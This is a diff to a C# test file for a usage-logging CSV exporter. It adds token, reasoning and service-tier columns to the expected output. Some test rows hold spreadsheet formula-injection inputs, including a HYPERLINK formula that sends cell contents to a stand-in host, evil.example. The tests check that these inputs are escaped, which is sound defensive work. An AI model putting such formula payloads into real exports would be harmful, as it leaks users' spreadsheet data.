@@ -83,7 +83,7 @@ public sealed class UsageQueryAndCsvTests : IAsyncLifetime
             Provider = "openai",
             UpstreamModel = "gpt-4o",
             Operation = "chat",
-            Tokens = new TokenUsage(1000, 50, 200, 0),
+            Tokens = new TokenUsage(1000, 50, 200, 300, CacheWrite1hTokens: 100, ReasoningTokens: 30, WebSearchRequests: 2, Tier: ServiceTier.Priority),
             Cost = new Money(125_000),
             Status = 200,
             LatencyMs = 42,
@@ -100,9 +100,9 @@ public sealed class UsageQueryAndCsvTests : IAsyncLifetime
         var lines = text.ToString().Split("\r\n");
         Assert.Equal(
             [
-                "request_id,timestamp,key_id,model_alias,provider,upstream_model,operation,input_tokens,output_tokens,cached_input_tokens,cache_write_tokens,cost_usd,status,error_code,latency_ms,streamed,source,task_scope,degraded",
-                "req-0,2025-03-03T05:06:07.890Z,team-a,gpt-4o,openai,gpt-4o-2024-08-06,chat,100,20,0,0,2.5,502,upstream_error,12,false,counted,run-7,max_tokens=64",
-                "req-1,2025-01-02T03:04:05.678Z,team-a,\"gpt, \"\"the\"\" best\",openai,gpt-4o,chat,1000,50,200,0,0.000125,200,,42,true,reported,,",
+                "request_id,timestamp,key_id,model_alias,provider,upstream_model,operation,input_tokens,output_tokens,cached_input_tokens,cache_write_tokens,cost_usd,status,error_code,latency_ms,streamed,source,task_scope,degraded,cache_write_1h_tokens,reasoning_tokens,web_search_requests,service_tier",
+                "req-0,2025-03-03T05:06:07.890Z,team-a,gpt-4o,openai,gpt-4o-2024-08-06,chat,100,20,0,0,2.5,502,upstream_error,12,false,counted,run-7,max_tokens=64,0,0,0,default",
+                "req-1,2025-01-02T03:04:05.678Z,team-a,\"gpt, \"\"the\"\" best\",openai,gpt-4o,chat,1000,50,200,300,0.000125,200,,42,true,reported,,,100,30,2,priority",
                 "",
             ],
             lines);
@@ -134,8 +134,8 @@ public sealed class UsageQueryAndCsvTests : IAsyncLifetime
         await store.WriteCsvAsync(new UsageQuery(), text, CancellationToken.None);
 
         var lines = text.ToString().Split("\r\n");
-        Assert.Equal("f-2,2025-03-04T05:07:07.890Z,\"'-2+3\",\"'\tcmd\",openai,gpt-4o-2024-08-06,chat,100,20,0,0,0.000001,200,\"'\r=1\",12,false,reported,,", lines[1]);
-        Assert.Equal("f-1,2025-03-04T05:06:07.890Z,team-a,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",openai,gpt-4o-2024-08-06,chat,100,20,0,0,0.000001,200,,12,false,reported,\"'+1+1\",\"'@SUM(A1)\"", lines[2]);
+        Assert.Equal("f-2,2025-03-04T05:07:07.890Z,\"'-2+3\",\"'\tcmd\",openai,gpt-4o-2024-08-06,chat,100,20,0,0,0.000001,200,\"'\r=1\",12,false,reported,,,0,0,0,default", lines[1]);
+        Assert.Equal("f-1,2025-03-04T05:06:07.890Z,team-a,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",openai,gpt-4o-2024-08-06,chat,100,20,0,0,0.000001,200,,12,false,reported,\"'+1+1\",\"'@SUM(A1)\",0,0,0,default", lines[2]);
     }
 
     [Fact]
